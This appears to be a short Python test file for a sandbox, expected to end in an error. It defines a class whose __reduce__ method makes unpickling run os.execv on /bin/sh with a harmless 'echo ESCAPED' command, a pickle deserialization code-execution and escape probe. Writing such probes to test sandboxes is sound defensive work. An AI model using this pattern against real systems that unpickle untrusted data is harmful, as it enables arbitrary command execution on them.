# status: error
import os
import pickle


class Evil:
    def __reduce__(self):
        return os.execv, ("/bin/sh", ["sh", "-c", "echo ESCAPED"])


pickle.loads(pickle.dumps(Evil()))
